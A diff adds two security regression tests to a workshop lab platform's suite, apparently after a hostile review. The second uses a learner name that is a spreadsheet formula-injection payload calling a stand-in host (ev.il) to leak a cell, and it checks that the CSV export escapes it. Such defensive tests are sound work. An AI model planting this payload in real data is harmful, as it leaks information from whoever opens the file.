@@ -11,6 +11,7 @@ import io
 import json
 import re
 import threading
+import time
 import xml.etree.ElementTree as ET
 import zipfile
 
@@ -315,6 +316,49 @@ def test_the_instructor_watches_a_learner_and_nobody_else_may(room, instructor):
     finally:
         for client in (tab.client, watcher, spy):
             client.disconnect()
+
+
+def running_lab_hosts(room, instructor) -> list[str]:
+    page = instructor.get(f"{room.url}/lab-hosts", timeout=10).text
+    return re.findall(r"<tr><td>([^<]+)</td><td>[^<]*</td><td>[^<]*</td><td>running</td></tr>", page)
+
+
+def test_a_learner_who_leaves_during_a_catch_up_gets_no_lab_host(room, instructor):
+    """Found by a hostile review: the catch-up went on starting runs, and so a lab host, for a learner
+    who had left (ask for a catch-up with a raised hand, then leave)."""
+    headers = csrf(room, instructor)   # a lab page of the instructor's: their own lab host
+    hosts = CAPACITY + 1               # the warm pool's and the instructor's
+    wait_for(lambda: len(running_lab_hosts(room, instructor)) == hosts, 60, 0.2, what="the pool to fill")
+    http, _ = join(room, "Eve")        # Eve joins; her lab page is not open yet, she has no lab host
+    eve = me(room, instructor, "Eve")["id"]
+    r = instructor.post(f"{room.url}/workshop/learners/{eve}/catch-up", data={"lab": TEST_LAB, "step": "echo"},
+                        headers=headers, timeout=10)
+    assert r.json() == {"ok": True}
+    token = re.search(r'"X-CSRF-Token": "([^"]+)"', http.get(f"{room.url}/", timeout=10).text).group(1)
+    http.post(f"{room.url}/workshop/leave", headers={"X-CSRF-Token": token}, timeout=10)
+    left = me(room, instructor, "Eve")
+    assert left["place"] == "ended"
+    done = wait_for(lambda: (c := me(room, instructor, "Eve")["catch_up"])["state"] != "running" and c, 120, 0.5,
+                    what="the catch-up to end")
+    assert done["state"] == "failed", done
+    steps = me(room, instructor, "Eve")["steps"][TEST_LAB]
+    assert not [s for s, v in steps.items() if (v.get("started") or 0) > left["ended"]]
+    wait_for(lambda: len(running_lab_hosts(room, instructor)) == hosts, 30, 0.5,
+             what="no lab host beyond the pool's and the instructor's")
+    time.sleep(3)
+    assert len(running_lab_hosts(room, instructor)) == hosts
+
+
+def test_the_results_csv_carries_no_formulas(room, instructor):
+    """Found by a hostile review: a learner's name is a cell of results.csv, opened in a spreadsheet."""
+    seated(room, '=HYPERLINK("http://ev.il/?"&A2,"x")')
+    r = instructor.get(f"{room.url}/workshop/export.zip", timeout=30)
+    with zipfile.ZipFile(io.BytesIO(r.content)) as z:
+        rows = list(csv.DictReader(io.StringIO(z.read("results.csv").decode())))
+        results = json.loads(z.read("results.json"))["results"]
+    assert "'=HYPERLINK" in {row["name"][:11] for row in rows}
+    assert not [row["name"] for row in rows if row["name"][:1] in "=+-@"]
+    assert '=HYPERLINK("http://ev.il/?"&A2,"x")' in {r["name"] for r in results}   # JSON keeps it as it is
 
 
 @pytest.mark.slow
